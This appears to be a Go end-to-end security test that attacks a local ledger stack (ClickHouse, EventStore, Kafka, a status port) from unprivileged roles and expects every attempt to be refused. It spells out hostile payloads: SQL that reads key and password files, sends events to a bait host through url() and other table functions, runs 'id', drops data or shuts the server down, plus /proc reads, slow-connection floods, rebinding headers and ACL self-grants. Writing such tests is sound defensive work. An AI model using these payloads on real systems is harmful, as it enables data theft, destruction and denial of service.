//go:build unix && siege

package e2e

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/EventStore/EventStore-Client-Go/v4/esdb"
	"github.com/google/uuid"
	kafkago "github.com/segmentio/kafka-go"
	"github.com/segmentio/kafka-go/sasl"
	"github.com/segmentio/kafka-go/sasl/plain"
	"github.com/segmentio/kafka-go/sasl/scram"
)

// target is what the attacker was told: addresses, the passwords of its role, and
// where to send what it finds.
type target struct {
	Role                                  string
	Bait, Data                            string
	PID                                   int
	Children                              []int
	EventStore, Kafka, ClickHouse, Status door
}

// An attack says what it came to, and what is right for each role; a role
// without a word does not try it.
type attack struct {
	name string
	do   func(context.Context) string
	want map[string]string // role → regular expression of the outcome
}

// attackAll runs every attack that the role tries, and writes a line of JSON each.
func (to target) attackAll(w io.Writer) error {
	enc := json.NewEncoder(w)
	for _, a := range attacks(to) {
		if _, tries := a.want[to.Role]; !tries {
			continue
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		outcome := a.do(ctx)
		cancel()
		if err := enc.Encode(attacked{a.name, outcome}); err != nil {
			return err
		}
	}
	return nil
}

func attacks(to target) []attack {
	all := append(to.files(), to.statements()...)
	all = append(all, to.browsers()...)
	all = append(all, to.crowds()...)
	all = append(all, to.eventStore()...)
	all = append(all, to.broker()...)
	return append(all, to.statusPort()...)
}

// both is what is right for who has no account, and for the account that may only read.
func both(stranger, reader string) map[string]string {
	return map[string]string{"stranger": stranger, "reader": reader}
}

// files are read and processes looked into as the other user: accounts change nothing there.
func (to target) files() (out []attack) {
	denied := map[string]string{"stranger": "permission denied"}
	open := func(path string) func(context.Context) string {
		return func(context.Context) string {
			f, err := os.Open(path)
			if err != nil {
				return err.Error()
			}
			defer f.Close()
			if n, err := f.Read(make([]byte, 64)); err != nil {
				return err.Error()
			} else {
				return fmt.Sprintf("read %d bytes", n)
			}
		}
	}
	for _, name := range []string{"", "run.json", "up.lock", "vault.db", "vault.slots", "keys/kek",
		"keys/accounts.json", "connect/kafka-reader.conf", "tls/ca.key",
		"eventstore/db", "kafka/data", "clickhouse/engine", "sequence.index"} {
		out = append(out, attack{"read DATA/" + name, open(filepath.Join(to.Data, name)), denied})
	}
	out = append(out, attack{"write DATA/stolen", func(context.Context) string {
		return errorText(os.WriteFile(filepath.Join(to.Data, "stolen"), nil, 0o600))
	}, denied})
	for i, pid := range append([]int{to.PID}, to.Children...) {
		for _, name := range []string{"environ", "mem", "maps", "fd"} {
			path := filepath.Join("/proc", strconv.Itoa(pid), name)
			out = append(out, attack{fmt.Sprintf("read %s of process %d", name, i), open(path), denied})
		}
		out = append(out, attack{fmt.Sprintf("passwords in the arguments of process %d", i),
			func(context.Context) string {
				raw, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
				return fmt.Sprintf("%d words, %v", strings.Count(string(raw), "\x00"), err)
			}, map[string]string{"stranger": "^[1-3] words, <nil>$"}})
	}
	return out
}

func errorText(err error) string {
	if err == nil {
		return "done"
	}
	return err.Error()
}

// endless is a statement that holds a slot and a core until it is stopped.
const endless = "SELECT sum(cityHash64(number)) FROM numbers(1000000000000)"

// inside are statements that change what is the ledger's own: its account
// may run them, and no other.
var inside = []string{"a database dropped", "a table emptied", "rows deleted", "rows inserted"}

// stolen are statements that take, write or send what is not theirs.
func (to target) stolen() map[string]string {
	file := func(name string) string { return filepath.Join(to.Data, name) }
	host, port, _ := net.SplitHostPort(to.Bait)
	out := filepath.Join(filepath.Dir(filepath.Dir(to.Data)), "stranger", "stolen")
	one := "(SELECT any(stream) FROM ledgerline.events)"
	return map[string]string{
		"the key by file()":         fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("keys/kek")),
		"the key by file(), quoted": fmt.Sprintf("SELECT * FROM `file`('%s', 'RawBLOB')", file("keys/kek")),
		"the key by the function":   fmt.Sprintf("SELECT file('%s')", file("keys/kek")),
		"the vault by file()":       fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.db")),
		"the slots by file()":       fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.slots")),
		"the vault by sqlite()":     fmt.Sprintf("SELECT * FROM sqlite('%s', 'person')", file("vault.db")),
		"passwords by a common table": fmt.Sprintf("WITH x AS (SELECT * FROM file('%s', 'RawBLOB')) SELECT * FROM x",
			file("keys/accounts.json")),
		"passwords by a dictionary": fmt.Sprintf("CREATE DICTIONARY default.d (a String, b String) PRIMARY KEY a "+
			"SOURCE(FILE(path '%s' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", file("keys/accounts.json")),
		"a file written":     fmt.Sprintf("INSERT INTO FUNCTION file('%s', 'CSV') SELECT 1", out),
		"a result written":   fmt.Sprintf("SELECT 1 INTO OUTFILE '%s'", out),
		"a backup written":   fmt.Sprintf("BACKUP DATABASE ledgerline TO File('%s')", out),
		"a database dropped": "DROP DATABASE ledgerline",
		"a table emptied":    "TRUNCATE TABLE ledgerline.events",
		"rows deleted":       "ALTER TABLE ledgerline.events DELETE WHERE 1",
		"rows inserted": "INSERT INTO ledgerline.projector_position (projector, saved, applied) VALUES " +
			"('projector', 99999999, 99999999)",
		"a table elsewhere": fmt.Sprintf("CREATE TABLE default.t (a String) ENGINE = "+
			"URL('http://%s/', 'CSV')", to.Bait),
		"a database elsewhere": fmt.Sprintf("CREATE DATABASE s ENGINE = SQLite('%s')", file("vault.db")),
		"events sent by url()": fmt.Sprintf("DESCRIBE TABLE url(concat('http://%s/', %s), 'CSV')",
			to.Bait, one),
		"events sent by a subquery": fmt.Sprintf("SELECT * FROM (SELECT * FROM "+
			"url(concat('http://%s/', %s), 'CSV'))", to.Bait, one),
		"events sent by EXPLAIN": fmt.Sprintf("EXPLAIN SELECT * FROM url(concat('http://%s/', %s), 'CSV')",
			to.Bait, one),
		"events sent by s3()": fmt.Sprintf("DESCRIBE TABLE s3(concat('http://%s/b/', %s), 'CSV')",
			to.Bait, one),
		"events sent by postgresql()": fmt.Sprintf("DESCRIBE TABLE postgresql('%s', 'd', 't', 'u', 'p')", to.Bait),
		"events sent by mysql()":      fmt.Sprintf("DESCRIBE TABLE mysql('%s', 'd', 't', 'u', 'p')", to.Bait),
		"events sent by mongodb()": fmt.Sprintf("DESCRIBE TABLE mongodb('%s', 'd', 't', 'u', 'p', 'a String')",
			to.Bait),
		"events sent by redis()":   fmt.Sprintf("SELECT * FROM redis('%s', 'k', 'k String, v String')", to.Bait),
		"events sent by remote()":  fmt.Sprintf("DESCRIBE TABLE remote('%s', 'system', 'one')", to.Bait),
		"events sent by jdbc()":    fmt.Sprintf("DESCRIBE TABLE jdbc('jdbc:x://%s', 'd', 't')", to.Bait),
		"events sent by odbc()":    "DESCRIBE TABLE odbc('DSN=x', 'd', 't')",
		"events sent by iceberg()": fmt.Sprintf("DESCRIBE TABLE iceberg('http://%s/b/', 'k', 's')", to.Bait),
		"events sent by a dictionary": fmt.Sprintf("CREATE DICTIONARY default.e (a String, b String) PRIMARY KEY a "+
			"SOURCE(HTTP(url 'http://%s:%s/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", host, port),
		"a program run":      "SELECT * FROM executable('id', 'TSV', 'a String')",
		"a user made":        "CREATE USER stolen IDENTIFIED BY 'x'",
		"a function made":    "CREATE FUNCTION stolen AS (x) -> x",
		"the server stopped": "SYSTEM SHUTDOWN",
		"symbols looked up":  "SELECT demangle(addressToSymbol(1))",
		"readonly undone": "INSERT INTO ledgerline.projector_position (projector) SELECT 'x' SETTINGS " +
			"readonly = DEFAULT",
		"readonly undone by SET": "SET readonly = DEFAULT",
		"another profile":        "SELECT 1 SETTINGS profile = 'default'",
	}
}

// statements are sent to ClickHouse by POST and by GET, as nobody and as the
// account that may only read.
func (to target) statements() (out []attack) {
	refused := both("^401 ", "^(403|404|500|501) .*(READONLY|ACCESS_DENIED|NOT_IMPLEMENTED|not allowed)")
	for name, statement := range to.stolen() {
		for _, method := range []string{http.MethodPost, http.MethodGet} {
			want := maps.Clone(refused)
			if !slices.Contains(inside, name) { // files, addresses, programs: nobody's at all
				want["ledger"] = refused["reader"]
			}
			out = append(out, attack{name + " by " + method, func(ctx context.Context) string {
				return to.sql(ctx, method, statement, nil)
			}, want})
		}
	}
	out = append(out,
		attack{"read what the account may", func(ctx context.Context) string {
			return to.sql(ctx, http.MethodPost, "SELECT 'read', count() > 0 FROM ledgerline.events", nil)
		}, both("^401 ", "^200 read\t1")},
		attack{"readonly switched off", func(ctx context.Context) string {
			return to.sql(ctx, http.MethodPost, "DROP DATABASE ledgerline SETTINGS readonly = 0", nil)
		}, refused},
		attack{"another's password", func(ctx context.Context) string {
			guess := to
			guess.ClickHouse.User, guess.ClickHouse.Password = "ledger", to.ClickHouse.Password
			return guess.sql(ctx, http.MethodPost, "SELECT 1", nil)
		}, both("^401 ", "^401 ")},
		attack{"the default user of old", func(ctx context.Context) string {
			guess := to
			guess.ClickHouse.User, guess.ClickHouse.Password = "default", ""
			return guess.sql(ctx, http.MethodPost, "SELECT 1", nil)
		}, both("^401 ", "^401 ")},
		attack{"a password in the URL", func(ctx context.Context) string {
			return to.get(ctx, to.ClickHouse.URL+"/?user=reader&password=x&query=SELECT+1", door{}, nil)
		}, both("^(400|401|403) ", "^(400|401|403) ")},
		attack{"others' statements ended", func(ctx context.Context) string {
			return to.sql(ctx, http.MethodPost, "KILL QUERY WHERE user != '' SYNC", nil)
		}, refused},
		attack{"others' statements ended by GET", func(ctx context.Context) string {
			return to.sql(ctx, http.MethodGet, "KILL QUERY WHERE query_id != '' SYNC", nil)
		}, refused},
	)
	return out
}

func (to target) sql(ctx context.Context, method, statement string, header http.Header) string {
	if method == http.MethodGet {
		return to.get(ctx, to.ClickHouse.URL+"/?query="+url.QueryEscape(statement), to.ClickHouse, header)
	}
	return to.send(ctx, method, to.ClickHouse.URL+"/", statement, to.ClickHouse, header)
}

func (to target) get(ctx context.Context, address string, d door, header http.Header) string {
	return to.send(ctx, http.MethodGet, address, "", d, header)
}

// send returns the status and the beginning of the body.
func (to target) send(ctx context.Context, method, address, body string, d door, header http.Header) string {
	req, err := http.NewRequestWithContext(ctx, method, address, strings.NewReader(body))
	if err != nil {
		return err.Error()
	}
	if d.Password != "" || d.User != "" {
		req.SetBasicAuth(d.User, d.Password)
	}
	for k, v := range header {
		if req.Header[k] = v; k == "Host" {
			req.Host = v[0]
		}
	}
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	res, err := client.Do(req)
	if err != nil {
		return "no answer: " + err.Error()
	}
	defer res.Body.Close()
	raw, err := io.ReadAll(io.LimitReader(res.Body, 4<<10))
	if err != nil {
		return "cut answer: " + err.Error()
	}
	return strconv.Itoa(res.StatusCode) + " " + string(raw)
}

// browsers send what their user once typed: a page of another site must get nothing for it.
func (to target) browsers() (out []attack) {
	store := to.EventStore
	backup := "https://" + store.address() + "/admin/backup"
	for _, site := range []string{"cross-site", "same-site"} {
		header := http.Header{"Sec-Fetch-Site": {site}, "Sec-Fetch-Mode": {"no-cors"}, "Sec-Fetch-Dest": {"image"}}
		for name, address := range map[string]string{"ClickHouse": to.ClickHouse.URL + "/?query=SELECT+1",
			"the status port": to.Status.URL + "/status"} {
			out = append(out, attack{name + " from a page, " + site,
				func(ctx context.Context) string { return to.get(ctx, address, to.ClickHouse, header) },
				both("^403 ", "^403 ")})
		}
		out = append(out, attack{"a backup from a page, " + site,
			func(ctx context.Context) string { return to.get(ctx, backup, store, header) }, both("^403 ", "^403 ")})
	}
	rebound := http.Header{"Host": {"evil.example:8123"}}
	return append(out,
		attack{"ClickHouse by a name that was rebound", func(ctx context.Context) string {
			return to.get(ctx, to.ClickHouse.URL+"/?query=SELECT+1", to.ClickHouse, rebound)
		}, both("^403 ", "^403 ")},
		attack{"ClickHouse from a page's script", func(ctx context.Context) string {
			return to.get(ctx, to.ClickHouse.URL+"/?query=SELECT+1", to.ClickHouse,
				http.Header{"Origin": {"https://evil.example"}})
		}, both("^403 ", "^403 ")})
}

// crowds hold what others need. What the ledger does meanwhile is looked at by who set the siege.
func (to target) crowds() []attack {
	slow := func(ctx context.Context) string {
		_, address, _ := strings.Cut(to.ClickHouse.URL, "://")
		var held []net.Conn
		defer func() {
			for _, c := range held {
				_ = c.Close()
			}
		}()
		for range 100 {
			conn, err := net.Dial("tcp", address)
			if err != nil {
				return "not connected: " + err.Error()
			}
			held = append(held, conn)
			if _, err := io.WriteString(conn, "POST /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\nContent-Length: "+
				"1000000\r\n\r\nSE"); err != nil {
				return err.Error()
			}
		}
		return to.send(ctx, http.MethodGet, to.ClickHouse.URL+"/ping", "", door{}, nil)
	}
	many := func(ctx context.Context) string {
		first, cancel := context.WithCancel(ctx)
		defer cancel()
		ended := make(chan string, 40)
		for range 40 {
			go func() {
				ended <- to.sql(first, http.MethodPost, endless, nil)
			}()
		}
		select { // more than the account may run at a time wait or are refused
		case text := <-ended:
			return text
		case <-time.After(3 * time.Second):
			return "40 statements run or wait"
		}
	}
	return []attack{
		{"100 bodies that never end", slow, map[string]string{"stranger": "^200 Ok", "reader": "^200 Ok"}},
		{"40 statements without end", many, map[string]string{"stranger": "^401 ",
			"reader": "run or wait|^(429|503|500) "}},
	}
}

func (to target) eventStore() []attack {
	https := "https://" + strings.TrimPrefix(strings.SplitN(to.EventStore.URL, "?", 2)[0], "esdb://")
	over := func(path string) func(context.Context) string {
		return func(ctx context.Context) string { return to.get(ctx, https+path, to.EventStore, nil) }
	}
	call := func(do func(context.Context, *esdb.Client) error) func(context.Context) string {
		return func(ctx context.Context) string {
			u, err := url.Parse(to.EventStore.URL)
			if err != nil {
				return err.Error()
			}
			q := u.Query()
			q.Del("tlsCAFile") // the stranger cannot read it, and need not
			q.Set("tlsVerifyCert", "false")
			u.RawQuery = q.Encode()
			if to.EventStore.Password != "" {
				u.User = url.UserPassword(to.EventStore.User, to.EventStore.Password)
			}
			conf, err := esdb.ParseConnectionString(u.String())
			if err != nil {
				return err.Error()
			}
			conf.Logger = esdb.NoopLogging()
			client, err := esdb.NewClient(conf)
			if err != nil {
				return err.Error()
			}
			defer client.Close()
			return errorText(do(ctx, client))
		}
	}
	event := esdb.EventData{ContentType: esdb.ContentTypeJson, EventType: "device.observed.v1", Data: []byte(`{}`)}
	appendTo := func(stream string) func(context.Context) string {
		return call(func(ctx context.Context, c *esdb.Client) error {
			_, err := c.AppendToStream(ctx, stream, esdb.AppendToStreamOptions{}, event)
			return err
		})
	}
	const unauthenticated, denied = "(?i)unauthenticated|credentials are required", "(?i)access.?denied|permission"
	return []attack{
		{"a backup", over("/admin/backup"), map[string]string{"stranger": "^401 ", "consumer": "^401 "}},
		{"metrics", over("/metrics"), both("^401 ", "^200 ")},
		{"statistics", over("/stats"), both("^401 ", "^200 ")},
		{"information", over("/info"), both("^401 ", "^200 ")},
		{"plain HTTP", func(ctx context.Context) string {
			return to.get(ctx, strings.Replace(https, "https://", "http://", 1)+"/metrics", to.EventStore, nil)
		}, both("^400 .*TLS", "^400 .*TLS")},
		{"append to the ledger", appendTo("device-" + uuid.NewString()), both(unauthenticated, denied)},
		{"append a foreign event", appendTo("order-1"), both(unauthenticated, denied)},
		{"append to the settings", appendTo("$settings"), both(unauthenticated, denied)},
		{"append metadata", call(func(ctx context.Context, c *esdb.Client) error {
			_, err := c.SetStreamMetadata(ctx, "order-1", esdb.AppendToStreamOptions{}, esdb.StreamMetadata{})
			return err
		}), both(unauthenticated, denied)},
		{"delete a stream", call(func(ctx context.Context, c *esdb.Client) error {
			_, err := c.DeleteStream(ctx, "ledger-"+uuid.Nil.String(), esdb.DeleteStreamOptions{})
			return err
		}), both(unauthenticated, denied)},
		{"tombstone a stream", call(func(ctx context.Context, c *esdb.Client) error {
			_, err := c.TombstoneStream(ctx, "ledger-"+uuid.Nil.String(), esdb.TombstoneStreamOptions{})
			return err
		}), both(unauthenticated, denied)},
		{"read everything", call(func(ctx context.Context, c *esdb.Client) error {
			all, err := c.ReadAll(ctx, esdb.ReadAllOptions{From: esdb.Start{}}, 1)
			if err == nil {
				defer all.Close()
				_, err = all.Recv()
			}
			return err
		}), both(unauthenticated, "^done$")},
	}
}

func (to target) broker() (out []attack) {
	mechanism := func(user, password string) sasl.Mechanism {
		m, err := scram.Mechanism(scram.SHA256, user, password)
		if err != nil {
			return nil
		}
		return m
	}
	// The producers of the field: whoever says nothing, says PLAIN, or guesses.
	logins := map[string]sasl.Mechanism{
		"without login":            nil,
		"by PLAIN, unknown, empty": plain.Mechanism{Username: "nobody", Password: ""},
		"by PLAIN, empty":          plain.Mechanism{},
		"by PLAIN as relay, empty": plain.Mechanism{Username: "relay", Password: ""},
		"by SCRAM, unknown":        mechanism("nobody", "x"),
		"by SCRAM as relay, wrong": mechanism("relay", "wrong"),
		"by SCRAM as admin":        mechanism("admin", "admin"),
	}
	produce := func(login sasl.Mechanism, topic string) func(context.Context) string {
		return func(ctx context.Context) string {
			transport := &kafkago.Transport{SASL: login}
			defer transport.CloseIdleConnections()
			client := &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport,
				Timeout: 10 * time.Second}
			res, err := client.Produce(ctx, &kafkago.ProduceRequest{Topic: topic, RequiredAcks: kafkago.RequireAll,
				Records: kafkago.NewRecordReader(kafkago.Record{Value: kafkago.NewBytes([]byte(`{"garbage":1}`))})})
			if err == nil {
				err = res.Error
			}
			return errorText(err)
		}
	}
	for name, login := range logins {
		out = append(out, attack{"produce " + name, produce(login, "ledger.device"),
			map[string]string{"stranger": "^[^d]|^d[^o]"}})
	}
	own := mechanism(to.Kafka.User, to.Kafka.Password)
	// what an account may not describe is not there to it
	const unauthorized = "(?i)authoriz|not allowed|topic not found"
	for _, topic := range []string{"ledger.device", "ledger.adminaction", "ledger.position", "ledger.checkpoint",
		"ledger.new", "other"} {
		out = append(out, attack{"produce to " + topic, produce(own, topic),
			map[string]string{"reader": unauthorized, "consumer": unauthorized}})
	}
	ask := func(do func(context.Context, *kafkago.Client) error) func(context.Context) string {
		return func(ctx context.Context) string {
			transport := &kafkago.Transport{SASL: own}
			defer transport.CloseIdleConnections()
			return errorText(do(ctx, &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport,
				Timeout: 10 * time.Second}))
		}
	}
	denied := map[string]string{"reader": unauthorized, "consumer": unauthorized}
	return append(out,
		attack{"park a message", produce(own, "ledger.dead-letter"), map[string]string{"reader": unauthorized}},
		attack{"delete a topic", ask(func(ctx context.Context, c *kafkago.Client) error {
			res, err := c.DeleteTopics(ctx, &kafkago.DeleteTopicsRequest{Topics: []string{"ledger.device"}})
			return errors.Join(err, errorOf(res != nil, func() error { return res.Errors["ledger.device"] }))
		}), denied},
		attack{"create a topic", ask(func(ctx context.Context, c *kafkago.Client) error {
			res, err := c.CreateTopics(ctx, &kafkago.CreateTopicsRequest{
				Topics: []kafkago.TopicConfig{{Topic: "ledger.mine", NumPartitions: 1, ReplicationFactor: 1}},
			})
			return errors.Join(err, errorOf(res != nil, func() error { return res.Errors["ledger.mine"] }))
		}), denied},
		attack{"grant oneself everything", ask(func(ctx context.Context, c *kafkago.Client) error {
			res, err := c.CreateACLs(ctx,
				&kafkago.CreateACLsRequest{ACLs: []kafkago.ACLEntry{{ResourceType: kafkago.ResourceTypeCluster,
					ResourceName:        "kafka-cluster",
					ResourcePatternType: kafkago.PatternTypeLiteral, Principal: "User:" + to.Kafka.User, Host: "*",
					Operation: kafkago.ACLOperationTypeAll, PermissionType: kafkago.ACLPermissionTypeAllow}}})
			return errors.Join(err, errorOf(res != nil, func() error { return errors.Join(res.Errors...) }))
		}), map[string]string{"reader": "^[^d]|^d[^o]", "consumer": "^[^d]|^d[^o]"}},
		attack{"read the topics", ask(func(ctx context.Context, c *kafkago.Client) error {
			res, err := c.Fetch(ctx, &kafkago.FetchRequest{Topic: "ledger.device", MinBytes: 1, MaxBytes: 1 << 20,
				MaxWait: time.Second})
			return errors.Join(err, errorOf(res != nil, func() error { return res.Error }))
		}), map[string]string{"stranger": "^[^d]|^d[^o]", "reader": "^done$", "consumer": "^done$"}})
}

func errorOf(there bool, err func() error) error {
	if !there {
		return nil
	}
	return err()
}

func (to target) statusPort() (out []attack) {
	for _, path := range []string{"/status", "/metrics", "/debug/pprof/", "/debug/pprof/heap",
		"/debug/pprof/goroutine?debug=2", "/debug/pprof/profile?seconds=1"} {
		out = append(out, attack{"the status port's " + path, func(ctx context.Context) string {
			return to.get(ctx, to.Status.URL+path, to.ClickHouse, nil)
		}, both("^401 ", "^401 ")})
	}
	return out
}
